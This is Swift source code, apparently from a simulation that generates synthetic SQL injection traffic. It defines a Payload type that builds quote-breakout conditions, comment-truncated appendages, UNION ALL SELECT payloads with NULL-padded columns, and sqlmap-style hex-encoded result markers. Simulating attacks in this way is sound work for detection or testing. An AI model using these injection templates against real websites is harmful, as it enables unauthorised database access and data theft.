/// An intruder's habits in writing SQL: the marks put around what is fetched, and how a value is broken out of.
struct Payload {
  let point: Scenario.Point
  let width: Int
  let visible: Int
  /// Text around and between values, as attack tools choose it at random.
  let begin: String
  let between: String
  let end: String

  init(_ point: Scenario.Point, page: Site.Page, attacker: Int, seed: UInt64) {
    self.point = point
    width = page.width
    visible = page.visible
    var chance = Chance(Chance.seed(seed, 80, attacker))
    let letters = Array("bcdfghjklmnprstvwxz".utf8)
    func word(_ count: Int) -> String {
      String(decoding: (0..<count).map { _ in chance.pick(letters) }, as: UTF8.self)
    }
    begin = "q" + word(3) + "q"
    end = "q" + word(3) + "q"
    between = word(6)
  }

  /// A text as a literal that needs no quotes.
  static func hexadecimal(_ text: String) -> String {
    "0x" + text.utf8.map { ($0 < 16 ? "0" : "") + String($0, radix: 16) }.joined()
  }

  /// Continues the query's condition on a value that is there.
  func condition(_ value: String, _ condition: String) -> String {
    point.isQuoted ? "\(value)' AND \(condition) AND 'tAbq'='tAbq" : "\(value) AND \(condition)"
  }

  /// Appends something to the query and cuts off its end.
  func appended(_ value: String, _ text: String) -> String {
    "\(value)\(point.isQuoted ? "'" : "") \(text)-- -"
  }

  /// A UNION that shows one expression; `rest` is what follows the select list.
  func union(_ expression: String, _ rest: String = "") -> String {
    var columns = [String](repeating: "NULL", count: width)
    columns[visible] = expression
    return appended(
      "-1", "UNION ALL SELECT \(columns.joined(separator: ","))\(rest.isEmpty ? "" : " " + rest)")
  }

  /// Expressions joined and marked.
  func marked(_ expressions: [String]) -> String {
    let parts = expressions.map { "IFNULL(CAST(\($0) AS NCHAR),0x20)" }
    return
      "CONCAT(\(Self.hexadecimal(begin)),\(parts.joined(separator: ",\(Self.hexadecimal(between)),")),\(Self.hexadecimal(end)))"
  }

  /// What `marked` yields for values; NULL became a blank.
  func text(_ values: [PeopleBook.Value]) -> String {
    let parts = values.map { value in
      if case .null = value { return " " }
      return value.shown
    }
    return begin + parts.joined(separator: between) + end
  }

  /// A result row with the text where the page shows it.
  func row(_ text: String) -> [String] {
    var row = [String](repeating: "", count: width)
    row[visible] = text
    return row
  }
}
